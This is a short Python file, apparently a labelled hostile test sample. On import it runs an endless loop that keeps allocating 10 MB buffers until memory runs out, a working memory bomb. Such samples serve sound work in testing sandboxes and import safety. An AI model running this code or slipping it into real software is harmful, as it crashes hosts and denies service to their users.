"""Hostile: grows a Python list of 10 MB buffers without bound at import (memory bomb)."""

hoard = []
while True:
    hoard.append(bytearray(10 * 1024 * 1024))
